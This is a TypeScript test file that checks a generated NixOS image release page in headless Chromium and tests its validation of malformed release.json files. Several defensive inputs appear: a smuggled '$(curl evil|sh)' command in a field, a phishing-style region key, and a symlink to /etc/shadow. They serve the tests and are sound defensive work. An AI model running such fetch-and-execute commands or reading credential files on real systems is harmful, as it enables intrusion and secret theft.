/**
 * The release page, rendered by `bun task release-page` from a fixture
 * release.json (2 systems × the 17 default regions, and the container), then
 * opened in a real headless Chromium that the test starts and stops: the AMI
 * ids, the launch links, the region filter, no request leaving the page, a
 * phone-sized viewport; a screenshot is kept in test-results/ (not compared).
 */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { existsSync, mkdirSync, readdirSync, rmSync, statSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import puppeteer, { type Browser, type Page } from "puppeteer-core";
import { defaultRegions } from "../infra/regions.ts";
import type { ReleaseManifest } from "../tasks/release/manifest.ts";
import { launchUrl } from "../tasks/release/page.ts";
import { bunTask, projectCopy, REPO, tmpfs } from "./helpers.ts";

/** Debian's chromium, or another Chromium-based browser where the tests run (GitHub's runners have Chrome). */
function browserPath(): string {
	for (const name of ["chromium", "chromium-browser", "google-chrome-stable", "google-chrome"]) {
		const path = Bun.which(name);
		if (path) return path;
	}
	throw new Error("This test needs Chromium; install it with: apt-get install chromium");
}

const REGIONS = defaultRegions();
const SYSTEMS = ["x86_64-linux", "aarch64-linux"];
const amiId = (system: string, index: number) =>
	`ami-0${system.startsWith("x86") ? "a" : "b"}${index.toString(16).padStart(15, "0")}`;
const REPOSITORY = "public.ecr.aws/n1x7i4m3/nix";

const fixture: ReleaseManifest = {
	version: "26.05.20260616.567a49d-3f2a1b4c5d6e",
	releaseId: "3f2a1b4c5d6e",
	releasedAt: "2026-12-01T10:20:30.000Z",
	stack: "Production",
	publicAmis: true,
	amis: Object.fromEntries(
		SYSTEMS.map((system, s) => [
			system,
			{
				buildId: `${s + 1}`.repeat(16),
				label: "26.05.20260616.567a49d",
				sourceImage: {
					region: "us-east-1",
					imageId: `ami-0${s}c0ffee00000000`,
					name: `nixos-26.05-${system}`,
				},
				imageBuilderImage: `arn:aws:imagebuilder:us-east-1:123456789012:image/nixos-${system}/1.0.0/1`,
				ssmParameter: `/nix-images/Production/nixos/${system}/latest`,
				smokeTest: "passed" as const,
				regions: Object.fromEntries(REGIONS.map((region, r) => [region, amiId(system, r)])),
			},
		]),
	),
	containers: {
		repository: REPOSITORY,
		nixVersion: "2.31.2",
		indexDigest: `sha256:${"c".repeat(64)}`,
		tags: { release: "2.31.2-3f2a1b4c5d6e", moving: ["2.31.2", "latest"] },
		images: {
			amd64: {
				system: "x86_64-linux",
				buildId: "aaaaaaaaaaaaaaaa",
				tag: "2.31.2-aaaaaaaaaaaaaaaa-amd64",
				digest: `sha256:${"a".repeat(64)}`,
			},
			arm64: {
				system: "aarch64-linux",
				buildId: "bbbbbbbbbbbbbbbb",
				tag: "2.31.2-bbbbbbbbbbbbbbbb-arm64",
				digest: `sha256:${"b".repeat(64)}`,
			},
		},
	},
};

const project = projectCopy();
const releaseJson = join(project.dir, "outputs/main/release.json");
const pagePath = join(project.dir, "outputs/main/release/index.html");
const ARTIFACTS = join(REPO, "test-results");
let browser: Browser;
let page: Page;
const requests: string[] = [];

beforeAll(async () => {
	mkdirSync(join(project.dir, "outputs/main"), { recursive: true });
	writeFileSync(releaseJson, JSON.stringify(fixture, null, 2));
	const run = await bunTask(["release-page"], { cwd: project.dir });
	if (run.exitCode !== 0) throw new Error(`release-page failed:\n${run.stderr}`);
	browser = await puppeteer.launch({
		executablePath: browserPath(),
		args: ["--no-sandbox", "--headless=new", "--disable-gpu", "--no-first-run"],
	});
	page = await browser.newPage();
	page.on("request", (request) => {
		requests.push(request.url());
	});
	await page.goto(`file://${pagePath}`, { waitUntil: "load" });
}, 60_000);
afterAll(async () => {
	await browser?.close();
	project.dispose();
});

/** The part of the DOM the callbacks below use in the page (this project compiles without the DOM's types). */
interface Node {
	hidden: boolean;
	dataset: { region?: string };
	value: string;
	lang: string;
	textContent: string | null;
	innerText: string;
	scrollWidth: number;
	clientWidth: number;
	querySelector(selector: string): Node | null;
	querySelectorAll(selector: string): ArrayLike<Node> & Iterable<Node>;
	closest(selector: string): Node | null;
	getAttribute(name: string): string | null;
	dispatchEvent(event: unknown): boolean;
}
/** The page's globals, as a callback that runs there sees them. */
type PageGlobals = { document: Node & { documentElement: Node } };

/** The page's text as a reader sees it, laid out (hidden parts left out). */
function readerText(): Promise<string> {
	// biome-ignore lint/performance/useDomNodeTextContent: the rendered text is the point here.
	return page.$eval("body", (body) => (body as unknown as Node).innerText);
}

/** The rows the reader sees: region, AMI id, launch link. */
function visibleRows() {
	return page.$$eval("tr[data-region]", (rows) =>
		rows
			.filter((row) => !(row as unknown as Node).hidden)
			.map((row) => ({
				region: (row as unknown as Node).dataset.region,
				ami: row.querySelector("code")?.textContent,
				href: row.querySelector("a")?.getAttribute("href"),
				table: row.closest("table")?.querySelector("caption")?.textContent,
			})),
	);
}

describe("the release page", () => {
	test("release-page writes one static file from release.json", () => {
		expect(statSync(pagePath).size).toBeGreaterThan(1000);
		expect(readdirSync(dirname(pagePath))).toEqual(["index.html"]);
	});

	test("shows every AMI id of both systems in its table, with the version, date and SSM parameters", async () => {
		const rows = await visibleRows();
		expect(rows).toHaveLength(SYSTEMS.length * REGIONS.length);
		for (const system of SYSTEMS) {
			for (const [r, region] of REGIONS.entries()) {
				expect(rows).toContainEqual(
					expect.objectContaining({
						region,
						ami: amiId(system, r),
						table: `${system} AMI id by region`,
					}),
				);
			}
		}
		const text = await readerText();
		expect(text).toContain(`nix-images ${fixture.version}`);
		expect(text).toContain("Released 2026-12-01");
		for (const system of SYSTEMS)
			expect(text).toContain(`/nix-images/Production/nixos/${system}/latest`);
		expect(text).toContain(
			`aws ssm get-parameter --region ${[...REGIONS].sort()[0]} --name /nix-images/Production/nixos/x86_64-linux/latest`,
		);
	});

	test("each launch link opens the EC2 launch wizard for that AMI in that region", async () => {
		for (const row of await visibleRows()) {
			expect(row.href).toBe(launchUrl(row.region as string, row.ami as string));
			expect(row.href).toStartWith(
				`https://${row.region}.console.aws.amazon.com/ec2/home?region=${row.region}#LaunchInstances:ami=ami-`,
			);
		}
	});

	test("shows the container's pull commands by tag and by digest, and every digest and build id", async () => {
		const text = await readerText();
		expect(text).toContain(`docker pull ${REPOSITORY}:2.31.2`);
		expect(text).toContain(`docker pull ${REPOSITORY}:latest`);
		expect(text).toContain(`docker pull ${REPOSITORY}:2.31.2-3f2a1b4c5d6e`);
		expect(text).toContain("Public in every region below");
		expect(text).toContain(`docker pull ${REPOSITORY}@sha256:${"c".repeat(64)}`);
		for (const image of Object.values(fixture.containers?.images ?? {})) {
			expect(text).toContain(image.digest);
			expect(text).toContain(image.buildId);
		}
	});

	test("the filter box narrows the rows to the matching regions, and says how many", async () => {
		await page.type("#filter", "eu-west");
		const rows = await visibleRows();
		const matching = REGIONS.filter((region) => region.includes("eu-west"));
		expect(matching.length).toBeGreaterThan(0);
		expect(rows.map((row) => row.region).sort()).toEqual([...matching, ...matching].sort());
		expect(await page.$eval("#filter-status", (e) => e.textContent)).toBe(
			`${rows.length} of ${SYSTEMS.length * REGIONS.length} rows match “eu-west”.`,
		);
		await page.$eval("#filter", (input) => {
			(input as unknown as Node).value = "";
			input.dispatchEvent(new Event("input"));
		});
		expect(await visibleRows()).toHaveLength(SYSTEMS.length * REGIONS.length);
	});

	test("is accessible: a language, a labelled filter, tables with captions and header cells", async () => {
		const facts = await page.evaluate(() => {
			const { document } = globalThis as unknown as PageGlobals;
			return {
				lang: document.documentElement.lang,
				label: document.querySelector('label[for="filter"]')?.textContent,
				tables: [...document.querySelectorAll("table")].map((table) => ({
					caption: Boolean(table.querySelector("caption")?.textContent),
					columnHeaders: table.querySelectorAll('thead th[scope="col"]').length,
					rowHeaders: table.querySelectorAll('tbody th[scope="row"]').length,
					rows: table.querySelectorAll("tbody tr").length,
				})),
			};
		});
		expect(facts.lang).toBe("en");
		expect(facts.label).toBe("Filter regions");
		expect(facts.tables).toHaveLength(3);
		for (const table of facts.tables) {
			expect(table.caption).toBe(true);
			expect(table.columnHeaders).toBeGreaterThanOrEqual(3);
			expect(table.rowHeaders).toBe(table.rows);
		}
	});

	test("fits a phone's width: nothing but the tables scrolls sideways; a screenshot is kept", async () => {
		await page.setViewport({ width: 390, height: 844, deviceScaleFactor: 1 });
		const overflow = await page.evaluate(() => {
			const { document } = globalThis as unknown as PageGlobals;
			return document.documentElement.scrollWidth - document.documentElement.clientWidth;
		});
		expect(overflow).toBeLessThanOrEqual(0);
		mkdirSync(ARTIFACTS, { recursive: true });
		const screenshot = join(ARTIFACTS, "release-page.png");
		rmSync(screenshot, { force: true });
		await page.screenshot({ path: screenshot as `${string}.png`, fullPage: true });
		expect(statSync(screenshot).size).toBeGreaterThan(10_000);
		console.log(`screenshot: ${screenshot}`);
	});

	test("no request leaves the page: only the file itself (the icon is inline)", () => {
		expect(requests.length).toBeGreaterThan(0);
		expect(
			requests.filter((url) => !url.startsWith("file://") && !url.startsWith("data:")),
		).toEqual([]);
	});
});

describe("release-page refuses in one sentence", () => {
	test("without release.json", async () => {
		const bare = projectCopy();
		const run = await bunTask(["release-page"], { cwd: bare.dir });
		bare.dispose();
		expect(run.exitCode).toBe(1);
		expect(run.stderr).toContain(
			'outputs/main/release.json is missing; run `bun task release`, or put an earlier release\'s release.json there (the pipeline keeps it as the artifact "release").',
		);
	});

	test("with a release.json it cannot render", async () => {
		const other = projectCopy();
		mkdirSync(join(other.dir, "outputs/main"), { recursive: true });
		const { releasedAt: _, ...older } = fixture;
		writeFileSync(join(other.dir, "outputs/main/release.json"), JSON.stringify(older));
		const run = await bunTask(["release-page"], { cwd: other.dir });
		const written = existsSync(join(other.dir, "outputs/main/release/index.html"));
		other.dispose();
		expect(run.exitCode).toBe(1);
		expect(run.stderr).toContain(
			"outputs/main/release.json is no release manifest this version can render (no valid releasedAt); run `bun task release` again to write it anew.",
		);
		expect(written).toBe(false);
	});

	test("with values not of their form, naming the fields and never their content", async () => {
		const other = projectCopy();
		mkdirSync(join(other.dir, "outputs/main"), { recursive: true });
		const x86 = fixture.amis["x86_64-linux"] as NonNullable<(typeof fixture.amis)[string]>;
		const variants: [object, string][] = [
			[
				{
					amis: {
						"x86_64-linux": { ...x86, regions: { "evil.example/phish?": "ami-0123456789abcdef0" } },
					},
				},
				"amis.x86_64-linux.regions",
			],
			[
				{ amis: { "x86_64-linux": { ...x86, ssmParameter: "$(curl evil|sh)" } } },
				"amis.x86_64-linux.ssmParameter",
			],
			[{ amis: { "x86_64-linux": { ...x86, regions: {} } } }, "amis.x86_64-linux.regions"],
			[
				{ amis: { "x86_64-linux": { ...x86, regions: { "eu-west-1": "not-an-ami" } } } },
				"amis.x86_64-linux.regions",
			],
			[{ releasedAt: "yesterday" }, "releasedAt"],
			[{ regions: ["us-east-1"] }, "amis.x86_64-linux.regions, amis.aarch64-linux.regions"],
		];
		try {
			for (const [change, field] of variants) {
				writeFileSync(
					join(other.dir, "outputs/main/release.json"),
					JSON.stringify({ ...fixture, ...change }),
				);
				const run = await bunTask(["release-page"], { cwd: other.dir });
				expect(run.exitCode).toBe(1);
				expect(run.stderr).toContain(
					`outputs/main/release.json is no release manifest this version can render (no valid ${field}); run \`bun task release\` again to write it anew.`,
				);
				for (const content of ["evil", "curl", "yesterday", "not-an-ami"])
					expect(run.stderr).not.toContain(content);
				expect(existsSync(join(other.dir, "outputs/main/release/index.html"))).toBe(false);
			}
			for (const [text, what] of [
				["null", "holds JSON that is not an object (null)"],
				["[]", "holds JSON that is not an object (an array)"],
			] as const) {
				writeFileSync(join(other.dir, "outputs/main/release.json"), text);
				const run = await bunTask(["release-page"], { cwd: other.dir });
				expect(run.exitCode).toBe(1);
				expect(run.stderr).toContain(`release.json ${what}; fix it and run the task again.`);
				expect(run.stderr).not.toContain("this is a bug");
			}
			// A link to a file that is not ours to show: not a word of it.
			rmSync(join(other.dir, "outputs/main/release.json"));
			Bun.spawnSync(["ln", "-s", "/etc/shadow", join(other.dir, "outputs/main/release.json")]);
			const run = await bunTask(["release-page"], { cwd: other.dir });
			expect(run.exitCode).toBe(1);
			expect(run.stderr).toContain(
				"release.json is not valid JSON; fix it and run the task again.",
			);
			expect(run.stderr).not.toContain("root");
		} finally {
			other.dispose();
		}
	});

	test("on a full or read-only disk where the page goes, in one sentence", async () => {
		const other = projectCopy();
		const pages = join(other.dir, "outputs/main/release");
		mkdirSync(pages, { recursive: true });
		writeFileSync(join(other.dir, "outputs/main/release.json"), JSON.stringify(fixture));
		const disk = tmpfs(pages, "4k");
		try {
			writeFileSync(join(pages, "filler"), Buffer.alloc(4096));
			const full = await bunTask(["release-page"], { cwd: other.dir });
			expect(full.exitCode).toBe(1);
			expect(full.stderr).toContain(
				"No space is left for outputs/main/release/index.html (ENOSPC); free some",
			);
			rmSync(join(pages, "filler"));
			disk.remount("ro");
			const readOnly = await bunTask(["release-page"], { cwd: other.dir });
			disk.remount("rw");
			expect(readOnly.exitCode).toBe(1);
			expect(readOnly.stderr).toContain("is on a read-only file system; make it writable");
			for (const run of [full, readOnly]) expect(run.stderr).not.toContain("this is a bug");
		} finally {
			disk.dispose();
			other.dispose();
		}
	});
});
